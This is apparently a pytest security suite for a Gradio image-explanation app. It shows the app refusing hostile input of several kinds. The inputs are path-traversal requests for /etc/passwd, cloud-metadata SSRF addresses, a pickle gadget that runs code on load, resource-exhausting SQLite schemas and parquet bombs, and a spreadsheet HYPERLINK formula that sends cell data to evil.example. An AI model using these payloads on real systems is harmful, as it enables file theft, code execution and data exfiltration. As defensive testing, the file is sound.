"""What a stranger may try against a running app, and what a run folder from elsewhere may hold."""

from __future__ import annotations

import inspect
import io
import json
import pickle
import sqlite3
import time
import zipfile
from collections.abc import Iterator
from contextlib import closing
from functools import partial
from pathlib import Path
from types import SimpleNamespace

import httpx
import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import torch
from gradio.utils import get_upload_folder
from PIL import Image

import pairx
from pairx import load_model
from pairx.errors import InputError
from pairx.evaluation import guarding
from pairx.evaluation.reading import open_run, run_state
from pairx.evaluation.store import Store
from pairx.types import Explanation
from pairx.ui import sweeping
from pairx.ui.api import ExplainApi
from pairx.ui.app import build, launch_options
from pairx.ui.gate import ELSEWHERE, FOREIGN, NO_ADDRESS, PROXY, is_own_machine, refusal
from pairx.ui.library import Library, Places
from pairx.ui.sheet import csv_bytes
from tests.conftest import smooth_noise
from tests.evaluation.made_up import scored, write_run


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[httpx.Client]:
    """An app for the person at this machine."""
    places = Places(None, tmp_path_factory.mktemp("runs"), own_machine=True)
    small = pytest.MonkeyPatch()
    small.setattr(pairx, "load_model", partial(pairx.load_model, size=64))
    page = build(places)
    _, address, _ = page.launch(server_name="127.0.0.1", prevent_thread_lock=True, quiet=True, **launch_options(places))
    with httpx.Client(base_url=address, timeout=60, trust_env=False) as client:
        yield client
    page.close()
    small.undo()


def png(seed: int = 0) -> bytes:
    file = io.BytesIO()
    Image.fromarray(smooth_noise(seed)).save(file, "PNG")
    return file.getvalue()


def upload(client: httpx.Client, name: str = "photo.png", data: bytes | None = None, **how) -> httpx.Response:
    return client.post("/gradio_api/upload", files={"files": (name, data or png(), "image/png")}, **how)


def explain(client: httpx.Client, *photos: str, **options) -> str:
    """What the endpoint ends with when it is called with these paths: the last line of its stream."""
    files = [{"path": path, "meta": {"_type": "gradio.FileData"}} for path in photos]
    known = inspect.signature(ExplainApi.explain).parameters.values()
    given = {one.name: one.default for one in known if one.default is not one.empty} | options
    begun = client.post("/gradio_api/call/explain", json={"data": [*files, *given.values()]})
    if begun.status_code != 200:
        return begun.text
    return client.get(f"/gradio_api/call/explain/{begun.json()['event_id']}").text


def test_who_keeps_to_the_rules_is_answered(served):
    """Without this, what is refused below might be refused for another reason."""
    photos = [upload(served, f"{i}.png", png(i)).json()[0] for i in range(2)]
    said = explain(served, *photos, lines=5, colors=1)
    assert "event: complete" in said and '"similarity"' in said


# Who asks.


@pytest.mark.parametrize(
    "header",
    [
        ("X-Forwarded-For", "127.0.0.1"), ("X-Forwarded-Host", "localhost"), ("X-Forwarded-Proto", "https"),
        ("Forwarded", "for=127.0.0.1"), ("X-Real-IP", "127.0.0.1"), ("Via", "1.1 proxy"),
        ("CF-Connecting-IP", "127.0.0.1"), ("True-Client-IP", "::1"),
    ],
    ids=lambda one: one[0],
)  # fmt: skip
def test_what_came_through_a_proxy_is_not_the_person_at_this_machine(served, header):
    for answer in (served.get("/", headers=[header]), upload(served, headers=[header])):
        assert answer.status_code == 403 and answer.text == PROXY


@pytest.mark.parametrize("host", ["evil.example", "127.0.0.1.evil.example", "localhost.evil.example:7860", "", "[::"])
def test_another_name_that_leads_here_is_refused(served, host):
    """DNS rebinding: a page of that name would count as the app's own."""
    answer = served.get("/config", headers={"Host": host})
    assert answer.status_code in (400, 403) and (not host or answer.status_code == 400 or answer.text == FOREIGN)


@pytest.mark.parametrize(
    "headers",
    [
        {"Origin": "https://evil.example"}, {"Origin": "null"}, {"Origin": "http://localhost:1"},
        {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "no-cors", "Sec-Fetch-Dest": "image"},
        {"Sec-Fetch-Site": "same-site", "Sec-Fetch-Mode": "cors", "Sec-Fetch-Dest": "empty"},
        {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Dest": "iframe"},
    ],
    ids=str,
)  # fmt: skip
def test_another_sites_page_gets_nothing_and_changes_nothing(served, headers):
    before = set(Path(get_upload_folder()).rglob("planted.png"))
    for answer in (upload(served, "planted.png", png(7), headers=headers), served.get("/config", headers=headers)):
        assert answer.status_code == 403 and answer.text == ELSEWHERE
    assert set(Path(get_upload_folder()).rglob("planted.png")) == before


def test_the_own_page_a_followed_link_and_a_program_are_let_in(served):
    host = served.base_url.netloc.decode()
    link = {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Dest": "document"}
    own = {"Origin": f"http://{host}", "Sec-Fetch-Site": "same-origin", "Sec-Fetch-Mode": "cors"}
    for headers in (link, own, {}):
        assert served.get("/config", headers=headers).status_code == 200
    assert upload(served, headers=own).status_code == 200
    assert refusal({"host": "localhost:7860"}) == refusal({"host": "[::1]:7860"}) == ""


@pytest.mark.parametrize(
    ("environment", "own"),
    [
        ({}, True), ({"GRADIO_SERVER_NAME": "localhost"}, True), ({"GRADIO_SERVER_NAME": "::1"}, True),
        ({"GRADIO_SERVER_NAME": "0.0.0.0"}, False), ({"GRADIO_SERVER_NAME": "::"}, False),
        ({"GRADIO_SERVER_NAME": "192.168.1.5"}, False), ({"SPACE_ID": "a/b"}, False), ({"GRADIO_SHARE": "True"}, False),
        ({"GRADIO_SHARE": "1"}, False), ({"PAIRX_SHARED": "1"}, False), ({"GRADIO_ROOT_PATH": "/app"}, False),
    ],
    ids=str,
)  # fmt: skip
def test_when_paths_may_be_typed(environment, own):
    assert is_own_machine(environment) is own


def test_an_app_for_others_is_not_behind_the_gate(tmp_path):
    assert launch_options(Places(None, tmp_path, own_machine=False))["app_kwargs"]["middleware"] == []


# Files and addresses.


@pytest.mark.parametrize(
    "path",
    [
        "/gradio_api/file=/etc/passwd", "/gradio_api/file=../../../../etc/passwd", "/gradio_api/file=app.py",
        "/gradio_api/file=%2e%2e/%2e%2e/etc/passwd", "/file=/etc/passwd", "/static/../../../etc/passwd",
        "/assets/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "/gradio_api/file=file:///etc/passwd",
        "/gradio_api/proxy=http://169.254.169.254/latest", "/gradio_api/file=http://169.254.169.254/latest",
    ],
)  # fmt: skip
def test_no_file_outside_and_no_address_is_served(served, path):
    answer = served.get(path)
    assert answer.status_code in (307, 400, 403, 404) and b"root:" not in answer.content
    assert "169.254" not in answer.headers.get("location", "") or answer.status_code >= 400


@pytest.mark.parametrize("name", ["../../planted.png", "/etc/planted.png", "..\\planted.png", "a\0planted.png"])
def test_an_upload_stays_in_its_folder(served, name):
    answer = upload(served, name)
    inside = Path(get_upload_folder()).resolve()
    assert answer.status_code in (200, 400, 500)
    if answer.status_code == 200:
        assert all(Path(one).resolve().is_relative_to(inside) for one in answer.json())


@pytest.mark.parametrize(
    "address",
    [
        "http://169.254.169.254/latest/meta-data", "http://127.0.0.1:1/x.png", "http://localhost/x.png",
        "http://[::1]/x.png", "http://2130706433/x.png", "http://example.org/x.png", "https://example.org/x.png",
    ],
)  # fmt: skip
def test_no_address_is_fetched_for_a_caller(served, address, monkeypatch):
    def asked(*_: object, **__: object):
        raise AssertionError("something was fetched")

    monkeypatch.setattr(httpx.AsyncClient, "send", asked)
    (own,) = upload(served).json()
    assert NO_ADDRESS in explain(served, address, own)


@pytest.mark.parametrize("path", ["file:///etc/passwd", "/etc/passwd", "../../etc/passwd", "ftp://x/y", "data:,x", ""])
def test_no_path_of_this_machine_is_opened_for_a_caller(served, path):
    (own,) = upload(served).json()
    said = explain(served, path, own)
    assert "event: error" in said and "root:" not in said


@pytest.mark.parametrize(
    "options",
    [
        {"lines": 10**9}, {"colors": 10**9}, {"lines": -1}, {"colors": "1e9"}, {"lines": None}, {"model": "x" * 10**6},
        {"model": "../../etc"}, {"layer": "x" * 10**6}, {"cells": "all"}, {"figure": "../../x"}, {"figure": "exe"},
        {"start": ["activation"] * 1000}, {"colors": {"a": 1}}, {"lines": 1.0e308},
    ],
    ids=lambda one: str(one)[:40],
)  # fmt: skip
def test_options_out_of_range_are_refused_before_any_work(served, options):
    photos = [upload(served, f"{i}.png", png(i)).json()[0] for i in range(2)]
    begun = time.monotonic()
    said = explain(served, *photos, **options)
    assert "event: error" in said and len(said) < 5000 and '"error": null' not in said
    assert time.monotonic() - begun < 20


def test_uploads_that_nobody_uses_are_deleted(workshop, tmp_path, monkeypatch):
    unused, used, young = (tmp_path / f"{name}.png" for name in ("unused", "used", "young"))
    for path in (unused, used, young):
        path.write_bytes(png())
    page = SimpleNamespace(upload_file_set={str(unused), str(used), str(young), "gone"})
    workshop.shelf.open(used, "used.png")
    later = time.time() + sweeping.UNUSED_SECONDS
    born = sweeping._born_and_size
    monkeypatch.setattr(sweeping, "_born_and_size", lambda path: (later, 10) if path == young else born(path))
    sweeping.sweep(page, workshop.shelf, later + 1)
    assert not unused.exists() and used.exists() and young.exists()
    monkeypatch.setattr(sweeping, "MOST_BYTES", 1)
    sweeping.sweep(page, workshop.shelf, later + 1)
    assert used.exists() and not young.exists(), "too much in all"


# A run folder from elsewhere.


@pytest.fixture
def folder(tmp_path) -> Path:
    write_run(tmp_path / "runs" / "theirs")
    return tmp_path / "runs" / "theirs"


ENDLESS = "WITH RECURSIVE one(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM one) SELECT x, x FROM one"
SCHEMAS = {
    "view": f"CREATE VIEW settings AS {ENDLESS}",
    "trigger": "CREATE TABLE facts (name, value); CREATE TRIGGER t AFTER INSERT ON facts BEGIN DELETE FROM facts; END",
    "another table": "CREATE TABLE secrets (x)",
    "computed column": "CREATE TABLE settings (name, value AS (zeroblob(1000000000)))",
    "virtual table": "CREATE VIRTUAL TABLE settings USING fts4(name, value)",
}


@pytest.mark.parametrize("schema", SCHEMAS)
def test_a_database_that_is_no_runs_is_not_read_and_not_written(tmp_path, schema):
    with closing(sqlite3.connect(tmp_path / "run.sqlite")) as database:
        database.executescript(SCHEMAS[schema])
    begun = time.monotonic()
    assert "cannot be read" in run_state(tmp_path).problem
    with pytest.raises(InputError, match="no run can be kept there"):
        Store(tmp_path, {})
    assert time.monotonic() - begun < 2


def test_a_database_that_takes_long_is_given_up(tmp_path, monkeypatch):
    monkeypatch.setattr(guarding, "MOST_SECONDS", 0.2)
    with closing(sqlite3.connect(tmp_path / "x")) as database:
        database.execute("CREATE TABLE settings (name, value)")
    with guarding.looking_into(tmp_path / "x", ["settings"]) as database, pytest.raises(sqlite3.OperationalError):
        database.execute(f"SELECT count(*) FROM ({ENDLESS})").fetchone()


def spoilt(folder: Path, **columns: pa.Array) -> None:
    """Write the run's pairs anew with other columns."""
    table = pa.Table.from_pandas(scored(), preserve_index=False)
    for name, values in columns.items():
        table = table.set_column(table.column_names.index(name), name, values)
    pq.write_table(table, folder / "pairs.parquet")


TYPES = {
    "lists": {"cosine": pa.array([[0.5]] * 80)},
    "texts for numbers": {"cosine": pa.array(["0.5"] * 80)},
    "texts for truth": {"correct": pa.array(["False"] * 80)},
    "bytes for names": {"query_id": pa.array([b"\xff"] * 80)},
    "fractions for names": {"query_id": pa.array([1.5] * 80)},
    "structures": {"status": pa.array([{"a": 1}] * 80)},
    "long texts": {"status": pa.array(["x" * 10_000] * 80)},
}


@pytest.mark.parametrize("kind", TYPES)
def test_a_table_of_other_types_is_refused_in_a_line(folder, kind):
    spoilt(folder, **TYPES[kind])
    with pytest.raises(InputError, match=r"its pairs\.parquet h"):
        open_run(folder)


def test_a_table_of_many_rows_is_refused_unread(folder):
    rows = guarding.MOST_ROWS + 1
    names = pa.DictionaryArray.from_arrays(np.zeros(rows, np.int8), pa.array(["q"]))
    pq.write_table(pa.table({"query_id": names, "correct": np.ones(rows, bool)}), folder / "pairs.parquet")
    assert (folder / "pairs.parquet").stat().st_size < 100_000
    with pytest.raises(InputError, match="more than this can open"):
        open_run(folder)


def test_a_text_that_all_rows_share_does_not_unpack_to_more_than_memory(tmp_path):
    rows = 1_000_000
    one = pa.DictionaryArray.from_arrays(np.zeros(rows, np.int8), pa.array(["x" * 10**6]))  # 1 TB of text
    pq.write_table(pa.table({"query_id": one}), tmp_path / "x.parquet")
    with pytest.raises(guarding.Unfit, match="texts of more than"):
        guarding.read_table(tmp_path / "x.parquet")


@pytest.mark.parametrize(
    ("file", "values"),
    [
        ("settings.json", []), ("settings.json", {"dataset": {"$ref": "x"}, "model": "reid-lite0"}),
        ("settings.json", {"dataset": "cows", "model": ["x"]}), ("summary.json", {"layers": []}),
        ("summary.json", {"layers": {"stage": {"match_coverage": 5}}}), ("summary.json", {"status": {"ok": "many"}}),
    ],
    ids=str,
)  # fmt: skip
def test_values_of_other_kinds_are_refused_in_a_line(folder, file, values):
    known = json.loads((folder / file).read_text())
    (folder / file).write_text(json.dumps({**known, **values} if isinstance(values, dict) else values))
    with pytest.raises(InputError, match=f"its {file}"):
        open_run(folder)
    assert file in run_state(folder).problem


def test_values_that_nest_without_end_are_refused_in_a_line(folder):
    (folder / "settings.json").write_text("[" * 200_000 + "]" * 200_000)
    with pytest.raises(InputError, match="cannot be read"):
        open_run(folder)


def test_a_run_that_points_elsewhere_shows_no_photograph_to_others(folder, tmp_path):
    outside, inside = tmp_path / "private.png", tmp_path / "sets" / "shown.png"
    inside.parent.mkdir()
    for path in (outside, inside):
        path.write_bytes(png())
    (inside.parent / "link.png").symlink_to(outside)
    photographs = pd.read_parquet(folder / "photographs.parquet")
    paths = [str(outside), str(inside.parent / "link.png"), str(inside.parent / ".." / "private.png"), str(inside)]
    photographs.loc[:3, "path"] = paths
    photographs.to_parquet(folder / "photographs.parquet")
    ids = photographs["image_id"][:4].tolist()
    run = Library(Places(inside.parent, folder.parent, own_machine=False)).run("theirs")
    for id in ids[:3]:
        with pytest.raises(InputError, match="outside of this server's data sets"):
            run.photograph(id)
    assert run.photograph(ids[3])[0] == inside
    assert run.photograph(photographs["image_id"][9])[0].parent == folder, "beside the run"
    mine = Library(Places(None, folder.parent, own_machine=True)).run("theirs")
    assert mine.photograph(ids[0])[0] == outside


def test_links_that_leave_the_folders_are_not_followed_for_others(folder, tmp_path):
    runs, sets, elsewhere = folder.parent, tmp_path / "sets", tmp_path / "elsewhere"
    sets.mkdir()
    write_run(elsewhere)
    (runs / "linked").symlink_to(elsewhere)
    (folder / "pairs.parquet").unlink()
    (folder / "pairs.parquet").symlink_to(elsewhere / "pairs.parquet")
    (sets / "linked").symlink_to(elsewhere)
    others, mine = (Library(Places(sets, runs, own_machine=own)) for own in (False, True))
    for name in ("linked", "theirs"):
        with pytest.raises(InputError, match="leads out"):
            others.run(name)
        assert mine.run(name).layers == ["early", "stage"]
    assert [state.name for state in others.states()] == ["Sample herd"]
    with pytest.raises(InputError, match="leads out"):
        others.source("linked")
    assert mine.source("linked") == sets / "linked"


# Files that bring code along.


class Bomb:
    """Writes a file when it is unpickled."""

    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self):
        return Path.write_text, (self.path, "ran")


def test_a_checkpoint_with_code_is_refused_and_its_code_does_not_run(tmp_path):
    torch.save({"weight": Bomb(tmp_path / "ran")}, tmp_path / "bomb.pth")
    (tmp_path / "plain.pth").write_bytes(pickle.dumps(Bomb(tmp_path / "ran")))
    for name in ("bomb.pth", "plain.pth"):
        with pytest.raises(InputError):
            load_model("resnet18", weights=tmp_path / name)
    assert not (tmp_path / "ran").exists()


def test_values_with_code_are_refused_and_their_code_does_not_run(tmp_path):
    with zipfile.ZipFile(tmp_path / "bomb.npz", "w") as file:
        packed = io.BytesIO()
        np.lib.format.write_array(packed, np.array([Bomb(tmp_path / "ran")], object), allow_pickle=True)
        file.writestr("map0.npy", packed.getvalue())
    (tmp_path / "plain.npz").write_bytes(pickle.dumps(Bomb(tmp_path / "ran")))
    for name in ("bomb.npz", "plain.npz"):
        with pytest.raises(InputError):
            Explanation.load(tmp_path / name)
    assert not (tmp_path / "ran").exists()


# Names that are formulas.


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", " =", "＝", "＋", "－", "＠"])
def test_a_name_that_is_a_formula_is_text_in_a_csv(start):
    name = f'{start}HYPERLINK("http://evil.example?"&A1,"look")'
    table = pd.DataFrame({"query_id": [name, "plain"], name: [None, name], "delta": [-0.5, 2.0]})
    back = pd.read_csv(io.BytesIO(csv_bytes(table)))
    assert back["query_id"].tolist() == [f"'{name}", "plain"]
    assert list(back)[1] == f"'{name}" and back.iloc[1, 1] == f"'{name}"
    assert back["delta"].tolist() == [-0.5, 2.0], "numbers stay"
